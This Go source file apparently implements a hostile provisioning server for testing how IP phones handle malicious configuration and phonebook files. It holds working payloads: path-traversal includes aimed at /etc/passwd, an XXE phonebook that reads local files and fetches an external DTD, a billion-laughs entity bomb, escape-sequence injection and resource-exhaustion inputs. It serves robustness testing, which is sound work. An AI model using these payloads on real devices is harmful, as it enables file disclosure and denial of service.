package hostile

import (
	"bufio"
	"fmt"
	"net"
	"net/http"
	"strings"
)

// contentAttacks speak HTTP well, and serve what no phone should trust.
var contentAttacks = []Attack{
	content("content-include-escape", "includes files outside of the server's folder, and of the phone's", map[string]string{
		".boot": "include:config <../../../../../../etc/passwd>\ninclude:config <file:///etc/passwd.cfg>\n" +
			"include:config <..\\..\\x.cfg>\ninclude:config </etc/x.cfg>\n" +
			"include:config <%2e%2e/%2e%2e/x.cfg>\ninclude:config <good.cfg>\n",
		"good.cfg": "a.b=c\n",
	}),
	content("content-escapes", "has terminal escape sequences and HTML in names and values", map[string]string{
		".cfg": "a." + Evil + "=1\nphone_setting.label=" + Evil + "\nnetwork.vpn.password=" + Evil + "\n",
	}),
	content("content-flash-escape", "names settings as files outside of the flash folder", map[string]string{
		".cfg": "../../escaped=1\n/etc/escaped=1\nremote_phonebook.data.../../../escaped.url=%s/book.xml\n" +
			"local_contact.data.url=%s/../../../book.xml\n",
		"book.xml": "<Directory><Entry/></Directory>",
	}),
	content("content-entity-bomb", "has a phonebook whose entities grow by powers of ten", map[string]string{
		".cfg": "local_contact.data.url=%s/book.xml\n", "book.xml": entityBomb(),
	}),
	content("content-external-entity", "has a phonebook that asks for /etc/passwd and for the bystander", map[string]string{
		".cfg": "local_contact.data.url=%s/book.xml\n",
		"book.xml": `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">` +
			`<!ENTITY % y SYSTEM "http://%b/x.dtd"> %y;]>` +
			`<Directory><Entry>&x;</Entry></Directory>`,
	}),
	content("content-deep-phonebook", "has a phonebook that nests a million deep", map[string]string{
		".cfg": "local_contact.data.url=%s/book.xml\n", "book.xml": strings.Repeat("<Entry>", 1<<20),
	}),
	content("content-file-resource", "names files of the phone's own machine as resources", map[string]string{
		".cfg": "local_contact.data.url=file:///etc/passwd\nremote_phonebook.data.1.url=file:///dev/zero\n",
	}),
	content("content-bystander-resource", "names the bystander as its resources' server", map[string]string{
		".cfg": "local_contact.data.url=http://%b/book.xml\n",
	}),
	content("content-many-includes", "includes a hundred thousand files", map[string]string{
		".boot": strings.Repeat("include:config <x.cfg>\n", 100_000),
	}),
	content("content-many-settings", "sets a hundred thousand settings, in lines that are all wrong in between", map[string]string{
		".cfg": manySettings(100_000),
	}),
	content("content-long-line", "has a line of four megabytes", map[string]string{
		".cfg": "a.b=" + strings.Repeat("x", 4<<20) + "\n",
	}),
	content("content-includes-itself", "includes its boot file as a cfg file", map[string]string{
		".boot": "include:config <y000000000000.boot>\ninclude:config <y000000000000.cfg>\n",
		".cfg":  "include:config <y000000000000.cfg>\n",
	}),
}

// content is a server of a few files. A name that begins with a dot is that of the common
// file; %s is where the server is, %b where the bystander is.
func content(name, does string, files map[string]string) Attack {
	return Attack{Name: name, Scheme: "http", Does: does, stream: func(s *Server, c net.Conn) {
		r := bufio.NewReader(c)
		for {
			req, err := http.ReadRequest(r)
			if err != nil {
				return
			}
			body, ok := s.file(files, strings.TrimPrefix(req.URL.Path, "/"))
			status := "200 OK"
			if !ok {
				status = "404 Not Found"
			}
			say(c, fmt.Sprintf("HTTP/1.1 %s\r\nContent-Length: %d\r\n\r\n%s", status, len(body), body))
		}
	}}
}

func (s *Server) file(files map[string]string, name string) (string, bool) {
	body, ok := files[name]
	if !ok && strings.HasPrefix(name, "y000000000000.") {
		body, ok = files[strings.TrimPrefix(name, "y000000000000")]
	}
	body = strings.ReplaceAll(body, "%s", strings.TrimSuffix(s.at.String(), "/"))
	return strings.ReplaceAll(body, "%b", s.bystander.Addr().String()), ok
}

// entityBomb is the billion laughs.
func entityBomb() string {
	var b strings.Builder
	b.WriteString("<?xml version=\"1.0\"?>\n<!DOCTYPE d [<!ENTITY e0 \"ha\">\n")
	for n := 1; n < 12; n++ {
		fmt.Fprintf(&b, "<!ENTITY e%d \"%s\">\n", n, strings.Repeat(fmt.Sprintf("&e%d;", n-1), 10))
	}
	b.WriteString("]>\n<Directory><Entry>&e11;</Entry></Directory>\n")
	return b.String()
}

func manySettings(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "linekey.%d.label=%d\n=======\n", i, i)
	}
	return b.String()
}
